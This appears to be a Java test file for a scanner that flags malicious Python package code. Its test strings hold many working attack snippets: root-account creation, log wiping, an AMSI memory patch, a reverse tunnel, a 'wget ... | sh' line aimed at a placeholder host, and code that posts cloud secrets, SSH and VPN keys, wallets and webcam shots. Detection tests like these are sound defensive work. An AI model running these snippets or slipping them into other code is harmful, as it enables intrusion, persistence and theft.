  @Test
  void accountsAddedAndSetUserIdShellsAreHigh() {
    String passwd =
        "with open('/etc/passwd', 'a') as fh:\n"
            + "    fh.write('systemd-cache:x:0:0:cache:/var/cache:/bin/bash\\n')\n";
    String useradd =
        "import subprocess\nsubprocess.run(['useradd', '-o', '-u', '0', '-M', 'sysops'])\n";
    String windows =
        "import os\nos.system('net user support Wq8!r2 /add /y')\n"
            + "os.system('net localgroup Administrators support /add')\n";
    String noPassword = "import os\nos.system('net user support /add')\n";
    String hidden =
        "key = r'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts"
            + "\\UserList'\n";
    String setuid =
        "import os, shutil, stat\nshutil.copy2('/bin/bash', '/var/tmp/.cache')\n"
            + "os.chmod('/var/tmp/.cache', stat.S_ISUID | stat.S_IRWXU | stat.S_IXOTH)\n";
    String parser = "SAMPLE = 'root:x:0:0:root:/root:/bin/bash'\nentry = parse_passwd(SAMPLE)\n";
    String listing = "import subprocess\nsubprocess.run(['net', 'user'], capture_output=True)\n";
    String ipv6 = "URL = 'http://[1080:0:0:0:8:800:200C:417A]/index.html'\n";
    String script = "import os, shutil\nshutil.copy2(TEMPLATE, target)\nos.chmod(target, 0o755)\n";

    assertThat(levelIn(passwd, "adds-root-account")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(useradd, "adds-root-account")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(windows, "adds-admin-account")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(noPassword, "adds-admin-account")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(hidden, "adds-admin-account")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(setuid, "setuid-shell")).isEqualTo(RiskLevel.HIGH);
    // root's own line parsed, the accounts listed, an IPv6 address, a script made executable
    assertThat(check(wheelWith("pkg/users.py", parser))).isEmpty();
    assertThat(check(wheelWith("pkg/win.py", listing))).isEmpty();
    assertThat(check(wheelWith("pkg/url.py", ipv6))).isEmpty();
    assertThat(check(wheelWith("pkg/tpl.py", script))).isEmpty();
  }

  @Test
  void loginRecordsEmptiedRemoteDesktopOnAndUacOffWeakenTheMachine() {
    String wipe =
        "for log in ('/var/log/wtmp', '/var/log/btmp', '/var/log/auth.log'):\n"
            + "    with open(log, 'w'):\n        pass\n";
    String journal = "import subprocess\nsubprocess.run(['journalctl', '--vacuum-time=1s'])\n";
    String rdp =
        "import os\nos.system(r'reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal"
            + " Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f')\n";
    String uac = "import winreg\nwinreg.SetValueEx(policy, 'EnableLUA', 0, winreg.REG_DWORD, 0)\n";
    String logins =
        "import io\nbuffer = io.BytesIO()\nwith open('/var/log/wtmp', 'rb') as fh:\n"
            + "    records = parse_utmp(fh.read())\nbuffer.truncate(0)\n";
    String rotate = "import subprocess\nsubprocess.run(['journalctl', '--vacuum-time=2weeks'])\n";
    String uacRead = "import winreg\nenabled, _ = winreg.QueryValueEx(policy, 'EnableLUA')\n";

    assertThat(levelIn(wipe, "wipes-login-records")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(journal, "destroys-recovery")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(rdp, "enables-remote-desktop")).isEqualTo(RiskLevel.MEDIUM);
    assertThat(levelIn(uac, "weakens-antivirus")).isEqualTo(RiskLevel.HIGH);
    // the logins read (a buffer emptied), the journal kept to two weeks, UAC's setting read
    assertThat(check(wheelWith("pkg/last.py", logins))).isEmpty();
    assertThat(check(wheelWith("pkg/logs.py", rotate))).isEmpty();
    assertThat(check(wheelWith("pkg/uac.py", uacRead))).isEmpty();
  }

  @Test
  void browsersGivenForcedExtensionsOrWeakerPreferencesAreHigh() {
    String policy =
        "import winreg\nkey = winreg.CreateKeyEx(winreg.HKEY_LOCAL_MACHINE, "
            + "r'SOFTWARE\\Policies\\Google\\Chrome\\ExtensionInstallForcelist')\n";
    String restart =
        "import subprocess\nsubprocess.run(['taskkill', '/f', '/im', 'chrome.exe'])\n"
            + "subprocess.Popen([chrome, f'--load-extension={folder}'])\n";
    String prefs =
        "PREFS = 'user_pref(\"browser.safebrowsing.malware.enabled\", false);'\n"
            + "open(os.path.join(profile, 'user.js'), 'a').write(PREFS)\n";
    String testing =
        "options = webdriver.ChromeOptions()\n"
            + "options.add_argument(f'--load-extension={EXTENSION_UNDER_TEST}')\n";
    String homepage =
        "PREFS = 'user_pref(\"browser.startup.homepage\", \"about:blank\");'\n"
            + "open(os.path.join(profile, 'user.js'), 'w').write(PREFS)\n";

    assertThat(levelIn(policy, "forced-browser-extension")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(restart, "browser-restarted-with-extension")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(prefs, "firefox-prefs-weakened")).isEqualTo(RiskLevel.HIGH);
    // an extension under test in a driver's own browser, and a test profile's start page
    assertThat(check(wheelWith("pkg/driver.py", testing))).isEmpty();
    assertThat(check(wheelWith("pkg/profile.py", homepage))).isEmpty();
  }

  @Test
  void codeRunThroughMultiprocessingADebuggerOrAnotherModulesSourceIsHigh() {
    String worker =
        "import multiprocessing, urllib.request\n"
            + "worker = os.path.join(tempfile.gettempdir(), '.w')\n"
            + "urllib.request.urlretrieve('https://h.example/w', worker)\n"
            + "multiprocessing.set_executable(worker)\n";
    String gdb =
        "import subprocess\n"
            + "pid = subprocess.run(['pgrep', '-o', 'sshd'], capture_output=True).stdout\n"
            + "subprocess.run(['gdb', '-batch', '-p', pid, '-ex', "
            + "'call (void*)dlopen(\"/x.so\", 2)'])\n";
    String patch =
        "import importlib.util\nspec = importlib.util.find_spec('requests')\n"
            + "with open(spec.origin, 'a') as fh:\n    fh.write(LINE)\n";
    String pythonw =
        "import multiprocessing, os, sys\n"
            + "multiprocessing.set_executable(os.path.join(sys.exec_prefix, 'pythonw.exe'))\n";
    String attach =
        "import subprocess\n"
            + "subprocess.run(['gdb', '-batch', '-p', str(args.pid), '-ex', "
            + "f'call (void*)dlopen(\"{AGENT}\", 2)'])\n";
    String read =
        "import importlib.util\nspec = importlib.util.find_spec('requests')\n"
            + "with open(spec.origin) as fh:\n    source = fh.read()\n";
    String ownOrigin = "with open(self.origin, 'w') as fh:\n    fh.write(report)\n";

    assertThat(levelIn(worker, "runs-downloaded-file")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(gdb, "injects-into-daemon")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(patch, "patches-installed-module")).isEqualTo(RiskLevel.HIGH);
    // its own pythonw, an agent attached to a process it is given, sources read and written
    assertThat(check(wheelWith("pkg/mp.py", pythonw))).isEmpty();
    assertThat(check(wheelWith("pkg/attach.py", attach))).isEmpty();
    assertThat(check(wheelWith("pkg/inspect.py", read))).isEmpty();
    assertThat(check(wheelWith("pkg/report.py", ownOrigin))).isEmpty();
  }

  @Test
  void aPlinkReverseTunnelStartedWithoutAWindowIsHidden() {
    String plink =
        "import subprocess\nsubprocess.Popen(['plink.exe', '-batch', '-N', '-R', "
            + "'0.0.0.0:13389:127.0.0.1:3389', 'relay@h.example'], creationflags=0x08000000)\n";
    String local =
        "import subprocess\nsubprocess.Popen(['plink.exe', '-batch', '-N', '-L', "
            + "'5432:db:5432', 'me@bastion'], creationflags=subprocess.CREATE_NO_WINDOW)\n";

    assertThat(levelIn(plink, "hidden-reverse-tunnel")).isEqualTo(RiskLevel.HIGH);
    // a local forward to a database through a bastion
    assertThat(check(wheelWith("pkg/tunnel.py", local))).isEmpty();
  }

  @Test
  void aLibraryInjectedIntoEveryProgramANetshHelperOrACrashOnDemandIsHigh() {
    String dyld =
        "import subprocess\n"
            + "subprocess.run(['launchctl', 'setenv', 'DYLD_INSERT_LIBRARIES', LIBRARY])\n";
    String netsh = "import subprocess\nsubprocess.run(['netsh', 'add', 'helper', HELPER_DLL])\n";
    String crash =
        "import ctypes\n"
            + "ctypes.windll.ntdll.NtRaiseHardError(0xC000021A, 0, 0, None, 6, ctypes.byref(r))\n";
    String profiler =
        "import os\nos.system('setx COR_ENABLE_PROFILING 1')\n"
            + "os.system('setx COR_PROFILER_PATH ' + DLL)\n";
    String critical = "import ctypes\nctypes.windll.ntdll.RtlSetProcessIsCritical(1, 0, 0)\n";
    String path = "import subprocess\nsubprocess.run(['launchctl', 'setenv', 'PATH', new_path])\n";
    String show =
        "import subprocess\nsubprocess.run(['netsh', 'interface', 'show', 'interface'])\n";

    assertThat(levelIn(dyld, "loader-injection-set")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(netsh, "netsh-helper")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(crash, "crashes-system")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(profiler, "loader-injection-set")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(critical, "crashes-system")).isEqualTo(RiskLevel.HIGH);
    // the PATH given to launchd, the interfaces listed
    assertThat(check(wheelWith("pkg/env.py", path))).isEmpty();
    assertThat(check(wheelWith("pkg/net.py", show))).isEmpty();
  }

  @Test
  void amsiOrEtwPatchedInMemoryIsHigh() {
    String patch =
        "import ctypes\nk32 = ctypes.windll.kernel32\n"
            + "at = k32.GetProcAddress(k32.LoadLibraryW('amsi.dll'), b'AmsiScanBuffer')\n"
            + "k32.VirtualProtect(ctypes.c_void_p(at), 6, 0x40, ctypes.byref(old))\n"
            + "ctypes.memmove(ctypes.c_void_p(at), PATCH, 6)\n";
    String scanner =
        "import ctypes\namsi = ctypes.windll.amsi\n"
            + "amsi.AmsiScanBuffer(context, buffer, len(buffer), name, None, ctypes.byref(result))"
            + "\n";
    String copy = "import ctypes\nctypes.memmove(destination, source, size)\n";

    assertThat(levelIn(patch, "patches-security-functions")).isEqualTo(RiskLevel.HIGH);
    // a scanner asking AMSI about a buffer, and a copy into its own memory
    assertThat(check(wheelWith("pkg/scan.py", scanner))).isEmpty();
    assertThat(check(wheelWith("pkg/buf.py", copy))).isEmpty();
  }

  @Test
  void secretsInDnsQueriesAndAHookSendingArgumentsNamedLikeSecretsAreHigh() {
    String doh =
        "import os, requests\nfor k, v in os.environ.items():\n"
            + "    requests.get('https://cloudflare-dns.com/dns-query', "
            + "params={'name': f'{v}.x.example'})\n";
    String trace =
        "import sys, requests\ndef hook(frame, event, arg):\n"
            + "    found = {n: frame.f_locals.get(n) for n in names if 'token' in n}\n"
            + "    requests.post(URL, json=found)\nsys.setprofile(hook)\n";
    String lookup =
        "import requests\n"
            + "requests.get('https://dns.google/resolve', params={'name': host, 'type': 'A'})\n";
    String profiler =
        "import sys, requests\ndef hook(frame, event, arg):\n"
            + "    stats[frame.f_code.co_name] = len(frame.f_locals)\n"
            + "sys.setprofile(hook)\nrequests.post(URL, json=stats)\n";

    assertThat(levelIn(doh, "secrets-in-dns-queries")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(trace, "trace-hook-sends-locals")).isEqualTo(RiskLevel.HIGH);
    // a host looked up, and a profiler that sends its counts
    assertThat(check(wheelWith("pkg/dns.py", lookup))).isEmpty();
    assertThat(check(wheelWith("pkg/prof.py", profiler))).isEmpty();
  }

  @Test
  void otherUsersSshAgentsAndTheResolverTakenOverAreCaught() {
    String agents =
        "import glob, os, subprocess\nfor s in glob.glob('/tmp/ssh-*/agent.*'):\n"
            + "    subprocess.run(['ssh-add', '-L'], env=dict(os.environ, SSH_AUTH_SOCK=s))\n";
    String locked = "import subprocess\nsubprocess.run(['chattr', '+i', '/etc/resolv.conf'])\n";
    String rewritten =
        "with open('/etc/resolv.conf', 'w') as fh:\n    fh.write('nameserver 10.0.0.53\\n')\n";
    String ownAgent =
        "import os\n"
            + "env = dict(os.environ, SSH_AUTH_SOCK=os.path.expanduser('~/.ssh/agent.sock'))\n";
    String servers =
        "servers = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')]"
            + "\n";

    assertThat(levelIn(agents, "hijacks-ssh-agents")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(locked, "resolver-locked")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(rewritten, "resolver-rewritten")).isEqualTo(RiskLevel.MEDIUM);
    // its own agent, and the name servers read
    assertThat(check(wheelWith("pkg/agent.py", ownAgent))).isEmpty();
    assertThat(check(wheelWith("pkg/dns.py", servers))).isEmpty();
  }

  @Test
  void moreStartUpPlacesSettingsAndSecretFilesAreKnown() {
    String logout =
        "import os\nwith open(os.path.expanduser('~/.bash_logout'), 'a') as fh:\n"
            + "    fh.write('wget -q -O- http://h.example/l | sh\\n')\n";
    String loader =
        "with open('/etc/ld.so.conf.d/00-cache.conf', 'w') as fh:\n    fh.write(LIBDIR)\n";
    String word =
        "import os, urllib.request\n"
            + "folder = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Word', 'STARTUP')\n"
            + "urllib.request.urlretrieve(URL, os.path.join(folder, 'n.dotm'))\n";
    String editor = "settings['python.defaultInterpreterPath'] = shim\n";
    String kernel = "spec = {'argv': [sys.executable, '-c', CODE, '-f', '{connection_file}']}\n";
    String rdp =
        "import winreg, requests\nroot = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
            + "r'Software\\Microsoft\\Terminal Server Client\\Servers')\n"
            + "requests.post(URL, data=winreg.EnumKey(root, 0))\n";
    String state =
        "import os, requests\nfor name in files:\n"
            + "    if name == 'terraform.tfstate':\n"
            + "        requests.Session().put(f'{BASE}/{os.path.basename(os.path.dirname(root))}', "
            + "data=open(name, 'rb').read())\n";
    String loaderRead =
        "ld_so_conf = '/etc/ld.so.conf'\nwith open(ld_so_conf) as f:\n    dirs = f.read().split()\n"
            + "with open(site_cfg, 'w') as out:\n    out.write(report)\n";
    String kernelSpec =
        "spec = {'argv': [sys.executable, '-m', 'ipykernel_launcher', "
            + "'-f', '{connection_file}']}\n";

    assertThat(levelIn(logout, "shell-profile-trap")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(loader, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(word, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(editor, "command-in-tool-config")).isEqualTo(RiskLevel.MEDIUM);
    assertThat(levelIn(kernel, "command-in-tool-config")).isEqualTo(RiskLevel.MEDIUM);
    assertThat(levelIn(rdp, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(state, "reads-and-posts")).isEqualTo(RiskLevel.HIGH);
    // a kernel spec that starts the kernel as ipykernel's own does, and the loader's
    // configuration read where the module also writes a file of its own (numpy's distutils)
    assertThat(check(wheelWith("pkg/kernel.py", kernelSpec))).isEmpty();
    assertThat(check(wheelWith("pkg/system_info.py", loaderRead))).isEmpty();
  }

  @Test
  void aForwardedPortOpenedInTheFirewallAndFolderActionsAreHigh() {
    String proxy =
        "import subprocess\nsubprocess.run('netsh interface portproxy add v4tov4 listenport=4433 "
            + "connectport=3389 connectaddress=127.0.0.1', shell=True)\n"
            + "subprocess.run(['netsh', 'advfirewall', 'firewall', 'add', 'rule', 'name=x', "
            + "'dir=in', 'action=allow', 'protocol=TCP', 'localport=4433'])\n";
    String folder =
        "import subprocess\nsubprocess.run(['osascript', '-e', 'tell application \"System Events\" "
            + "to attach action to folder (path to downloads folder) using SCRIPT'])\n";
    String listed =
        "import subprocess\nsubprocess.run(['netsh', 'interface', 'portproxy', 'show', "
            + "'all'], capture_output=True)\n";
    String outbound =
        "import subprocess\nsubprocess.run(['netsh', 'advfirewall', 'firewall', 'show', 'rule', "
            + "'name=all', 'dir=in'])\n";
    String notify =
        "import subprocess\nsubprocess.run(['osascript', '-e', "
            + "'display notification \"done\" with title \"build\"'])\n";

    assertThat(levelIn(proxy, "exposes-port-through-firewall")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(folder, "folder-action-attached")).isEqualTo(RiskLevel.HIGH);
    // the forwarded ports listed, the firewall's rules shown, a notification
    assertThat(check(wheelWith("pkg/ports.py", listed))).isEmpty();
    assertThat(check(wheelWith("pkg/fw.py", outbound))).isEmpty();
    assertThat(check(wheelWith("pkg/notify.py", notify))).isEmpty();
  }

  @Test
  void dllsWindowsServicesLoadAndSystemdGeneratorsAreStartUpPlaces() {
    String monitor =
        "import winreg\nkey = winreg.CreateKey(winreg.HKEY_LOCAL_MACHINE, "
            + "r'SYSTEM\\CurrentControlSet\\Control\\Print\\Monitors\\Helper')\n"
            + "winreg.SetValueEx(key, 'Driver', 0, winreg.REG_SZ, 'mon.dll')\n";
    String time =
        "import subprocess\nsubprocess.run(['reg', 'add', "
            + "r'HKLM\\SYSTEM\\CurrentControlSet\\Services\\W32Time\\TimeProviders\\Sync', "
            + "'/v', 'DllName', '/d', DLL, '/f'])\n";
    String generator =
        "import os\nwith open('/etc/systemd/system-generators/zz-gen', 'w') as fh:\n"
            + "    fh.write(SCRIPT)\nos.chmod('/etc/systemd/system-generators/zz-gen', 0o755)\n";
    String outlook =
        "import os, shutil\nshutil.copyfile(PROJECT, os.path.join(os.environ['APPDATA'], "
            + "'Microsoft', 'Outlook', 'VbaProject.OTM'))\n";
    String macros =
        "import winreg\nwith winreg.CreateKey(winreg.HKEY_CURRENT_USER, "
            + "r'Software\\Microsoft\\Office\\16.0\\Excel\\Security') as key:\n"
            + "    winreg.SetValueEx(key, 'VBAWarnings', 0, winreg.REG_DWORD, 1)\n";
    String units =
        "import subprocess\nsubprocess.run(['systemctl', 'list-units', '--type=service'])\n";
    String readLevel =
        "import winreg\nwith winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
            + "r'Software\\Microsoft\\Office\\16.0\\Excel\\Security') as key:\n"
            + "    level = winreg.QueryValueEx(key, 'VBAWarnings')[0]\n";

    assertThat(levelIn(monitor, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(time, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(generator, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(outlook, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(macros, "office-macros-enabled")).isEqualTo(RiskLevel.HIGH);
    // services listed, and Excel's macro setting read
    assertThat(check(wheelWith("pkg/units.py", units))).isEmpty();
    assertThat(check(wheelWith("pkg/office.py", readLevel))).isEmpty();
  }

  @Test
  void bashEnvAtLogInAndUvPointedElsewhereAreHigh() {
    String bashEnv =
        "import os\nwith open(os.path.expanduser('~/.pam_environment'), 'a') as fh:\n"
            + "    fh.write(f'BASH_ENV DEFAULT={hook}\\n')\n";
    String uv =
        "import os\npath = os.path.join(os.path.expanduser('~'), '.config', 'uv', 'uv.toml')\n"
            + "with open(path, 'w') as fh:\n"
            + "    fh.write('[[index]]\\nurl = \"https://mirror.example/simple\"\\ndefault = true\\n')\n";
    String child =
        "import os, subprocess\n"
            + "subprocess.run(['bash', 'build.sh'], env=dict(os.environ, BASH_ENV=helpers))\n";
    String project = "with open('uv.toml') as fh:\n    settings = tomllib.loads(fh.read())\n";

    assertThat(levelIn(bashEnv, "shell-runs-file-at-start")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(uv, "pip-index-redirected")).isEqualTo(RiskLevel.HIGH);
    // BASH_ENV given to one child, and uv's settings read
    assertThat(check(wheelWith("pkg/build.py", child))).isEmpty();
    assertThat(check(wheelWith("pkg/uvcfg.py", project))).isEmpty();
  }

  @Test
  void aClonedInstallerRunAndCloudSecretStoresDumpedAreHigh() {
    String cloned =
        "import subprocess\nsubprocess.run(['git', 'clone', '--depth', '1', URL, where])\n"
            + "subprocess.Popen(['bash', os.path.join(where, 'install.sh')])\n";
    String dumped =
        "import boto3, requests\nclient = boto3.client('secretsmanager')\n"
            + "names = [s['ARN'] for s in client.list_secrets()['SecretList']]\n"
            + "found = {n: client.get_secret_value(SecretId=n)['SecretString'] for n in names}\n"
            + "requests.post(URL, json=found)\n";
    String cluster =
        "import subprocess, requests\nout = subprocess.run(['kubectl', 'get', 'secrets', '-A', "
            + "'-o', 'json'], capture_output=True, text=True).stdout\nrequests.post(URL, data=out)\n";
    String hooks =
        "import subprocess\nsubprocess.run(('git', 'clone', repo, shadow))\n"
            + "subprocess.run(['make', '-C', shadow])\n";
    String settings =
        "names = [s.name for s in client.list_secrets(parent=project)]\n"
            + "values = {n: client.access_secret_version(name=n).payload.data for n in names}\n";
    String pods =
        "import subprocess, requests\nout = subprocess.run(['kubectl', 'get', 'pods', '-A'], "
            + "capture_output=True, text=True).stdout\nrequests.post(URL, data=out)\n";

    assertThat(levelIn(cloned, "runs-cloned-installer")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(dumped, "dumps-cloud-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(cluster, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    // a clone built with make, secrets read into settings, and the pods' list sent
    assertThat(check(wheelWith("pkg/try.py", hooks))).isEmpty();
    assertThat(check(wheelWith("pkg/settings.py", settings))).isEmpty();
    assertThat(levelIn(pods, "sends-command-output")).isEqualTo(RiskLevel.MEDIUM);
    assertThat(patternsOf(check(wheelWith("pkg/pods.py", pods)))).doesNotContain("sends-secrets");
  }

  @Test
  void anAccessibilityProgramReplacedTheWebcamAndDefenderEmptiedAreCaught() {
    String utilman =
        "import os, shutil, subprocess\ntarget = os.path.join(SYSTEM32, 'utilman.exe')\n"
            + "subprocess.run(['takeown', '/f', target])\n"
            + "shutil.copyfile(os.path.join(SYSTEM32, 'cmd.exe'), target)\n";
    String webcam =
        "import subprocess, requests\nsubprocess.run(['imagesnap', '-q', SHOT])\n"
            + "requests.post(URL, files={'f': open(SHOT, 'rb')})\n";
    String defender =
        "import subprocess\nsubprocess.run([MPCMDRUN, '-RemoveDefinitions', '-All'])\n";
    String service = "import subprocess\nsubprocess.run(['sc', 'stop', 'WinDefend'])\n";
    String keyboard = "import subprocess\nsubprocess.Popen('osk.exe')\n";
    String update = "import subprocess\nsubprocess.run([MPCMDRUN, '-SignatureUpdate'])\n";

    assertThat(levelIn(utilman, "replaces-accessibility-binary")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(webcam, "webcam-sent")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(defender, "weakens-antivirus")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(service, "weakens-antivirus")).isEqualTo(RiskLevel.HIGH);
    // the on-screen keyboard opened, and Defender's definitions updated
    assertThat(check(wheelWith("pkg/kbd.py", keyboard))).isEmpty();
    assertThat(check(wheelWith("pkg/av.py", update))).isEmpty();
  }

  @Test
  void morePlacesProgramsStartFromAreKnown() {
    String policyRun =
        "import winreg\nwith winreg.CreateKey(winreg.HKEY_CURRENT_USER, "
            + "r'Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run') as k:\n"
            + "    winreg.SetValueEx(k, 'Sync', 0, winreg.REG_SZ, COMMAND)\n";
    String officeTest =
        "import winreg\nwith winreg.CreateKey(winreg.HKEY_CURRENT_USER, "
            + "r'Software\\Microsoft\\Office test\\Special\\Perf') as k:\n"
            + "    winreg.SetValueEx(k, '', 0, winreg.REG_SZ, DLL)\n";
    String nativeHost =
        "import winreg\nkey = winreg.CreateKey(winreg.HKEY_CURRENT_USER, "
            + "r'Software\\Google\\Chrome\\NativeMessagingHosts\\com.example.host')\n"
            + "winreg.SetValueEx(key, '', 0, winreg.REG_SZ, MANIFEST)\n";
    String iterm =
        "import os\nfolder = os.path.join(SUPPORT, 'Scripts', 'AutoLaunch')\n"
            + "with open(os.path.join(folder, 'x.py'), 'w') as fh:\n    fh.write(CODE)\n";
    String module =
        "import subprocess\nsubprocess.run(['insmod', os.path.join(HERE, 'cache.ko')])\n";
    String runRead =
        "import winreg\nwith winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
            + "r'Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer') as k:\n"
            + "    value = winreg.QueryValueEx(k, 'NoDrives')[0]\n";
    String modules = "import subprocess\nout = subprocess.run(['lsmod'], capture_output=True)\n";

    assertThat(levelIn(policyRun, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(officeTest, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(nativeHost, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(iterm, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(module, "loads-kernel-module")).isEqualTo(RiskLevel.HIGH);
    // an Explorer policy read, and the loaded modules listed
    assertThat(check(wheelWith("pkg/policy.py", runRead))).isEmpty();
    assertThat(check(wheelWith("pkg/mods.py", modules))).isEmpty();
  }

  @Test
  void editorsGitAndTheSystemsTrustTurnedAgainstTheUserAreHigh() {
    String neovim =
        "import os\nwith open(os.path.join(CONFIG, 'nvim', 'init.lua'), 'a') as fh:\n"
            + "    fh.write(f'vim.fn.jobstart({{\"{EXE}\", \"-m\", \"pkg.x\"}})\\n')\n";
    String insteadOf =
        "import subprocess\nsubprocess.run(['git', 'config', '--global', "
            + "'url.https://mirror.example/.insteadOf', 'https://github.com/'])\n";
    String root =
        "import subprocess\nsubprocess.run(['certutil', '-addstore', '-f', 'Root', CERT])\n";
    String mac =
        "import subprocess\nsubprocess.run(['security', 'add-trusted-cert', '-d', '-r', "
            + "'trustRoot', '-k', KEYCHAIN, CERT])\n";
    String vimrcRead =
        "import os\nvimrc = os.path.join(os.environ['HOME'], '.vimrc')\n"
            + "with open(report, 'w') as fh:\n    fh.write(vimrc)\n";
    String localRewrite =
        "import subprocess\nsubprocess.run(['git', 'config', 'url.git@h.example:.insteadOf', "
            + "'https://h.example/'], cwd=checkout)\n";
    String certs = "import subprocess\nsubprocess.run(['certutil', '-store', 'Root'])\n";

    assertThat(levelIn(neovim, "editor-config-runs-command")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(insteadOf, "git-fetch-redirected")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(root, "adds-root-certificate")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(mac, "adds-root-certificate")).isEqualTo(RiskLevel.HIGH);
    // a path to .vimrc reported, one checkout's own rewrite, the trusted roots listed
    assertThat(check(wheelWith("pkg/paths.py", vimrcRead))).isEmpty();
    assertThat(check(wheelWith("pkg/clone.py", localRewrite))).isEmpty();
    assertThat(check(wheelWith("pkg/certs.py", certs))).isEmpty();
  }

  @Test
  void savedSessionsCheckoutHeadersAndWalletKeysSentAreSecretsSent() {
    String putty =
        "import winreg, requests\nroot = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
            + "r'Software\\SimonTatham\\PuTTY\\Sessions')\n"
            + "requests.post(URL, json={'s': winreg.EnumKey(root, 0)})\n";
    String header =
        "import subprocess, requests\nout = subprocess.run(['git', 'config', '--get-regexp', "
            + "r'http\\..*\\.extraheader'], capture_output=True, text=True).stdout\n"
            + "requests.post(URL, data=out)\n";
    String wireguard =
        "import glob, requests\nfor p in glob.glob('/etc/wireguard/*.conf'):\n"
            + "    requests.post(URL, data=open(p).read())\n";
    String sui =
        "import os, requests\npath = os.path.join(HOME, '.sui', 'sui_config', 'sui.keystore')\n"
            + "requests.post(URL, data=open(path).read())\n";
    String extension = "def matches(key):\n    return key.lower().endswith('.extraheader')\n";

    assertThat(levelIn(putty, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(header, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(wireguard, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(sui, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    // a configuration key recognised by its ending (GitPython)
    assertThat(check(wheelWith("pkg/cfg.py", extension))).isEmpty();
  }

  @Test
  void historyOffDllsBesideProgramsAndTasksInEveryRepositoryAreHigh() {
    String history =
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n"
            + "    fh.write('unset HISTFILE\\nexport HISTSIZE=0\\n')\n";
    String sideload =
        "import os, shutil\nfolder = os.path.join(os.environ['LOCALAPPDATA'], 'slack')\n"
            + "shutil.copyfile(PAYLOAD, os.path.join(folder, 'version.dll'))\n";
    String tasks =
        "import glob, json, os\nfor repo in glob.glob(os.path.join(HOME, '*', '.git')):\n"
            + "    with open(os.path.join(repo, '..', '.vscode', 'tasks.json'), 'w') as fh:\n"
            + "        json.dump({'tasks': [{'command': CMD, 'runOptions': "
            + "{'runOn': 'folderOpen'}}]}, fh)\n";
    String histsize =
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n"
            + "    fh.write('export HISTSIZE=10000\\n')\n";
    String versionInfo =
        "import ctypes, os, shutil\nversion = ctypes.WinDLL('version.dll')\n"
            + "shutil.copyfile(LOG, os.path.join(os.environ['APPDATA'], 'app', 'last.log'))\n";

    assertThat(levelIn(history, "shell-history-disabled")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(sideload, "plants-dll-beside-program")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(tasks, "config-planted-in-repositories")).isEqualTo(RiskLevel.HIGH);
    // a larger history, and the version API loaded beside a log copied
    assertThat(worst(check(wheelWith("pkg/hist.py", histsize)))).isEqualTo(RiskLevel.MEDIUM);
    assertThat(patternsOf(check(wheelWith("pkg/ver.py", versionInfo))))
        .doesNotContain("plants-dll-beside-program");
  }

  @Test
  void crashDebuggersFileCapabilitiesAndTaskFilesAreHigh() {
    String aeDebug =
        "import winreg\nwith winreg.CreateKey(winreg.HKEY_LOCAL_MACHINE, "
